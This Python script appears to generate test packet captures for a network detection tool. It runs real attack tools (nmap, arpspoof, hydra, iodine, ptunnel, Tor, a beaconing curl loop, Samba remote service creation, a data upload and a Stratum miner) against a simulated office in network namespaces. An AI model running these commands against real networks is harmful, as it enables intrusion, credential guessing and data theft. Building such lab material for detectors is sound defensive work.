"""Make the captures of pcaps/selftest: what `spanline selftest` must find, done by real programs in namespaces.

    sudo python3 pcaps/make_selftest.py [FOLDER [NAME...]]

A small office (10.60.0.0/24) on one switch: a laptop, a desktop, a server; behind a router an "internet" of
documentation addresses. Attack tools are the ones attackers take: nmap, arpspoof, hydra, iodine, ptunnel, tor. The
captures keep CUT bytes of a frame where only sizes matter. What is not captured is written by `selftest/make.py`.
"""

import random
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

from netlab import Lab
from servers import PASSWORD, authority, dnsmasq, listening, nginx, smbd, sshd

LAPTOP, DESK, SERVER, ROUTER = "10.60.0.21", "10.60.0.22", "10.60.0.10", "10.60.0.1"
MACS = {
    "laptop": "54:e1:ad:60:00:21", "desk": "f8:bc:12:60:00:22", "server": "00:15:5d:60:00:10",
    "gw": "24:a4:3c:60:00:01",
}  # fmt: skip
SITES = [("www.example.com", "198.51.100.10", "http"), ("files.example.net", "198.51.100.90", "http")]
OUTSIDE = ("198.51.100.10", "198.51.100.53", "198.51.100.66", "198.51.100.90", "203.0.113.66", "203.0.113.77")
DOMAIN = "office.example"
CUT = ("-s", "160")
SEED = 20
BEACON_TURNS, BEACON_S = 27, 30.0
GENERATED = 30


def office(lab: Lab) -> None:
    """Build the office, its router and the internet; start the name server that the office asks."""
    lab.namespace("sw")
    lab.bridge("sw")
    lab.namespace("gw", forward=True)
    lab.plug("gw", "sw", mac=MACS["gw"])
    lab.address("gw", f"{ROUTER}/24")
    lab.namespace("inet")
    lab.wire("gw", "wan", "inet", "eth0")
    lab.address("gw", "192.0.2.2/30", device="wan", via=("192.0.2.1",))
    lab.address("inet", "192.0.2.1/30", via=("192.0.2.2",))
    for one in OUTSIDE:
        lab.address("inet", f"{one}/32", device="lo")
    for name, address in (("laptop", LAPTOP), ("desk", DESK), ("server", SERVER)):
        lab.namespace(name)
        lab.plug(name, "sw", mac=MACS[name])
        lab.address(name, f"{address}/24", via=(ROUTER,))
        (lab.etc(name) / "resolv.conf").write_text("nameserver 198.51.100.53\n")
    names = [f"host-record={host},{address},60" for host, address, _ in SITES]
    names += ["host-record=cloudflare-dns.com,203.0.113.77,60", f"host-record=server.{DOMAIN},{SERVER},60"]
    dnsmasq(lab, "inet", [*names, "listen-address=198.51.100.53", "bind-interfaces", "local=/#/"])


def work(lab: Lab, *, sites: bool = True) -> None:
    """Let the office do a little that is ordinary: names, pages, a ping."""
    if sites:
        nginx(lab, "inet", SITES)
    for host, address, _ in SITES:
        for name in ("laptop", "desk"):
            lab.run(name, "dig", "+tries=1", host, quiet=True)
            lab.run(name, "curl", "-s", "-o", "/dev/null", "-m", "5", f"http://{host}/900.html", quiet=True)
            lab.run(name, "ping", "-c", "1", "-W", "1", address, quiet=True)


def ordinary(lab: Lab, out: Path) -> None:
    """Nothing but that, and a large ping of one size, a name that does not exist, a closed port."""
    office(lab)
    with lab.capture("sw", "br0", out):
        work(lab)
        lab.run("laptop", "ping", "-c", "3", "-i", "0.3", "-s", "1400", ROUTER, quiet=True)
        lab.run("laptop", "dig", "+tries=1", "nosuch.example.org", quiet=True)
        lab.run("desk", "curl", "-s", "-m", "2", f"http://{SERVER}:631/", quiet=True)


def port_scan(lab: Lab, out: Path) -> None:
    """nmap: port 445 of the own network, then the usual ports of the server."""
    office(lab)
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        lab.run("laptop", "nmap", "-sS", "-n", "-T4", "-p", "445", "10.60.0.0/26", quiet=True)
        lab.run("laptop", "nmap", "-sS", "-n", "-T4", "--top-ports", "60", SERVER, quiet=True)


def inbound(lab: Lab, out: Path) -> None:
    """nmap from outside, on the server and two workstations."""
    office(lab)
    sshd(lab, "server")
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        lab.run("inet", "nmap", "-sS", "-n", "-Pn", "-T4", "--top-ports", "40", SERVER, LAPTOP, DESK, quiet=True)


def arp_spoof(lab: Lab, out: Path) -> None:
    """arpspoof between the desktop and the router, both ways."""
    office(lab)
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        tools = [lab.start("laptop", "arpspoof", "-i", "eth0", "-t", a, b) for a, b in ((DESK, ROUTER), (ROUTER, DESK))]
        lab.run("desk", "ping", "-c", "12", "-i", "1", "198.51.100.10", quiet=True)
        for tool in tools:
            tool.terminate()


def web_guessing(lab: Lab, out: Path) -> None:
    """hydra: passwords of a list at a web server that asks for one."""
    office(lab)
    nginx(lab, "server", [(f"intranet.{DOMAIN}", SERVER, "http")])
    path = lab.scratch / "nginx-auth.conf"
    (lab.scratch / "htpasswd").write_text("admin:$apr1$lab$nobodyknowsthishash00000\n")
    path.write_text(
        (lab.scratch / "nginx-server.conf").read_text().replace("listen 10.60.0.10:80;", "listen 10.60.0.10:8080;")
        .replace("nginx-server.pid", "nginx-auth.pid")
        .replace(" root ", f" auth_basic x; auth_basic_user_file {lab.scratch}/htpasswd; root ")
    )  # fmt: skip
    lab.start("server", "nginx", "-c", str(path))
    listening(lab, "server", 8080)
    with lab.capture("sw", "br0", out, "-s", "320"):
        work(lab)
        lab.run(
            "laptop", "timeout", "20", "hydra", "-I", "-l", "admin", "-P", str(_words(lab, 24)), "-t", "4", "-s",
            "8080", f"http-get://{SERVER}/300.html", quiet=True,
        )  # fmt: skip


def _words(lab: Lab, count: int) -> Path:
    path = lab.scratch / "words"
    path.write_text("".join(f"Autumn{number}\n" for number in range(count)))
    return path


def ssh_guessing(lab: Lab, out: Path) -> None:
    """hydra: passwords of a list at an SSH server, none of them right."""
    office(lab)
    sshd(lab, "server", port=2222)
    lab.start(
        "server", "/usr/sbin/sshd", "-D", "-f", f"{lab.scratch}/sshd-server.conf", "-p", "22", "-o", "MaxAuthTries=1"
    )  # fmt: skip
    listening(lab, "server", 22)
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        lab.run(
            "laptop", "timeout", "40", "hydra", "-I", "-l", "backup", "-P", str(_words(lab, 30)), "-t", "8", f"ssh://{SERVER}",
            quiet=True,
        )  # fmt: skip


def icmp_tunnel(lab: Lab, out: Path) -> None:
    """ptunnel: an SSH session in echo requests and replies."""
    office(lab)
    sshd(lab, "inet")
    lab.run("inet", "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    lab.start("inet", "ptunnel", "-v", "0")
    time.sleep(0.5)
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        lab.start("laptop", "ptunnel", "-p", "198.51.100.66", "-lp", "8022", "-da", "198.51.100.66", "-dp", "22")
        time.sleep(1)
        _ssh(lab, "laptop", "127.0.0.1", 8022, "for i in 1 2 3 4; do uptime; ls -la /etc | head -40; sleep 1; done")


def _ssh(lab: Lab, name: str, host: str, port: int, command: str) -> None:
    options = [
        word
        for one in ("StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR", "ConnectTimeout=20")
        for word in ("-o", one)
    ]
    lab.run(
        name, "ssh", "-F", "none", "-i", f"{lab.scratch}/user", *options, "-p", str(port), f"root@{host}", command,
        quiet=True,
    )  # fmt: skip


def dns_tunnel(lab: Lab, out: Path) -> None:
    """iodine: IP in DNS, by way of the resolver, and a file through it."""
    office(lab)
    with lab.capture("sw", "br0", out, "-s", "600"):
        work(lab)
        lab.start(
            "inet", "iodined", "-f", "-c", "-P", "tunnel", "-l", "203.0.113.66", "10.99.0.1/24", "t.example.org"
        )  # fmt: skip
        time.sleep(1)
        lab.start(
            "laptop", "iodine", "-f", "-r", "-I", "5", "-T", "TXT", "-P", "tunnel", "203.0.113.66", "t.example.org"
        )  # fmt: skip
        time.sleep(7)
        lab.run("laptop", "ping", "-c", "40", "-i", "0.1", "-s", "120", "10.99.0.1", quiet=True)


def generated_names(lab: Lab, out: Path) -> None:
    """dig: names of random letters, as a bot asks for where its master might be; none exists."""
    office(lab)
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        state = 20_261_124
        for _ in range(GENERATED):
            letters = []
            for _ in range(13):
                state = (state * 1_103_515_245 + 12_345) % (1 << 31)
                letters.append("abcdefghijklmnopqrstuvwxyz0123456789"[state >> 16 & 31])
            lab.run("laptop", "dig", "+tries=1", "".join(letters) + ".com", quiet=True)


def ssh_on_443(lab: Lab, out: Path) -> None:
    """OpenSSH to a server outside that listens on HTTPS's port."""
    office(lab)
    sshd(lab, "inet", port=443)
    with lab.capture("sw", "br0", out, *CUT):
        work(lab)
        _ssh(lab, "laptop", "203.0.113.66", 443, "uptime; ls -la /etc | head -20; sleep 1")


def tor(lab: Lab, out: Path) -> None:
    """Tor's client with two bridges that speak TLS and are no relays: its hello shows before they fail."""
    office(lab)
    cert = authority(lab)
    for address in ("203.0.113.66", "198.51.100.66"):
        lab.start(
            "inet", "openssl", "s_server", "-quiet", "-accept", f"{address}:9001", "-cert", str(cert),
            "-key", f"{lab.scratch}/ca.key",
        )  # fmt: skip
    listening(lab, "inet", 9001)
    (lab.scratch / "tor").mkdir(mode=0o700)
    with lab.capture("sw", "br0", out):
        work(lab)
        lab.start(
            "laptop", "tor", "--DataDirectory", f"{lab.scratch}/tor", "--UseBridges", "1", "--SocksPort", "0",
            "--Bridge", "203.0.113.66:9001", "--Bridge", "198.51.100.66:9001", "--Log", "notice stdout",
        )  # fmt: skip
        time.sleep(25)


def beacon(lab: Lab, out: Path) -> None:
    """curl in a loop to an address that has no name, every 30 s ± 10 %."""
    office(lab)
    nginx(lab, "inet", [*SITES, ("c2", "203.0.113.66", "http")])
    jitter = random.Random(SEED)  # noqa: S311 - a client's jitter, no secret
    with lab.capture("sw", "br0", out, *CUT, "ip"):
        for turn in range(BEACON_TURNS):
            if turn % 6 == 0:
                work(lab, sites=False)
            lab.run("laptop", "curl", "-s", "-o", "/dev/null", "-m", "5", "http://203.0.113.66/300.html", quiet=True)
            time.sleep(BEACON_S * jitter.uniform(0.9, 1.1))


def remote_control(lab: Lab, out: Path) -> None:
    """Samba's rpcclient and net: sessions, registry and services of another host, over its pipes."""
    office(lab)
    smbd(lab, "server", ["dana.fox"], "SERVER")
    user = f"OFFICE\\dana.fox%{PASSWORD}"
    conf = lab.scratch / "client.conf"
    conf.write_text(
        "[global]\nworkgroup = OFFICE\nclient use kerberos = off\n"
        + "".join(f"{kind} directory = {lab.scratch}\n" for kind in ("lock", "state", "cache", "private"))
    )
    with lab.capture("sw", "br0", out):
        work(lab)
        for words in (("rpc", "service", "list"), ("rpc", "service", "create", "upd", "upd", "c:\\upd.exe"),
                      ("rpc", "registry", "enumerate", "HKLM"), ("rpc", "shutdown", "-t", "60")):  # fmt: skip
            lab.run(
                "laptop", "net", *words, "-S", SERVER, "-U", user, "--configfile", str(conf), "-p", "445", quiet=True
            )  # fmt: skip


def upload(lab: Lab, out: Path) -> None:
    """curl: a file of 600 kB to a place that the laptop never used."""
    office(lab)
    file = lab.scratch / "report.bin"
    file.write_bytes(bytes(range(256)) * 2400)
    lab.start("inet", "socat", "-u", "TCP4-LISTEN:8080,bind=203.0.113.66,reuseaddr,fork", "OPEN:/dev/null")
    listening(lab, "inet", 8080)
    with lab.capture("sw", "br0", out, "-s", "96"):
        work(lab)
        lab.run("laptop", "curl", "-s", "-m", "6", "-T", str(file), "http://203.0.113.66:8080/up", quiet=True)


def doh(lab: Lab, out: Path) -> None:
    """curl asks a public resolver over HTTPS, by its usual name."""
    office(lab)
    nginx(lab, "inet", [("cloudflare-dns.com", "203.0.113.77", "TLSv1.3")])
    with lab.capture("sw", "br0", out):
        work(lab, sites=False)
        lab.run(
            "laptop", "curl", "-sk", "-o", "/dev/null", "-m", "6", "--doh-insecure", "--doh-url",
            "https://cloudflare-dns.com/dns-query", "http://hidden.example.org/", quiet=True,
        )  # fmt: skip


POOL = """
import json, socketserver
class Pool(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            call = json.loads(line)
            told = [[["mining.notify", "ae68"]], "08000002", 4] if call["method"] == "mining.subscribe" else True
            said = [{"id": call["id"], "result": told, "error": None}]
            if call["method"] == "mining.authorize":
                said += [{"id": None, "method": "mining.notify", "params": ["bf", "4d16" * 16, "01", "03", []]}]
            for one in said:
                self.wfile.write(json.dumps(one).encode() + b"\\n")
socketserver.TCPServer(("203.0.113.66", 8080), Pool).serve_forever()
"""
MINER = """
import json, socket, time
pool = socket.create_connection(("203.0.113.66", 8080))
calls = [("mining.subscribe", ["cpuminer/2.5.1"]), ("mining.authorize", ["anna.rig1", "x"])]
for number, (method, params) in enumerate(calls + [("mining.submit", ["anna.rig1", "bf", "00", "5f", "b2"])] * 3):
    pool.sendall(json.dumps({"id": number, "method": method, "params": params}).encode() + b"\\n")
    pool.recv(4096)
    time.sleep(2)
"""


def stratum(lab: Lab, out: Path) -> None:
    """A miner and its pool in the clear, on a port that is no pool's: two scripts that speak Stratum V1."""
    office(lab)
    lab.start("inet", "python3", "-c", POOL)
    time.sleep(1)
    with lab.capture("sw", "br0", out):
        work(lab)
        lab.run("laptop", "python3", "-c", MINER, quiet=True)


SCENES: dict[str, Callable[[Lab, Path], None]] = {
    "ordinary": ordinary, "port-scan": port_scan, "inbound": inbound, "arp-spoof": arp_spoof,
    "web-guessing": web_guessing, "ssh-guessing": ssh_guessing, "icmp-tunnel": icmp_tunnel,
    "dns-tunnel": dns_tunnel, "generated-names": generated_names, "ssh-on-443": ssh_on_443, "tor": tor,
    "remote-control": remote_control, "upload": upload, "doh": doh, "beacon": beacon, "stratum": stratum,
}  # fmt: skip


def main(folder: Path, names: list[str]) -> None:
    """Make the scenes named, or all; packed, because they are shipped."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names or SCENES:
        out = folder / f"{name}.pcap"
        try:
            with Lab() as lab:
                SCENES[name](lab, out)
            subprocess.run(["gzip", "-9nf", str(out)], check=True)
            print(f"{name}: {out.with_suffix('.pcap.gz').stat().st_size} bytes", flush=True)
        except (RuntimeError, OSError, subprocess.TimeoutExpired) as error:
            print(f"{name}: left out: {error}", file=sys.stderr, flush=True)


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent / "selftest", sys.argv[2:])
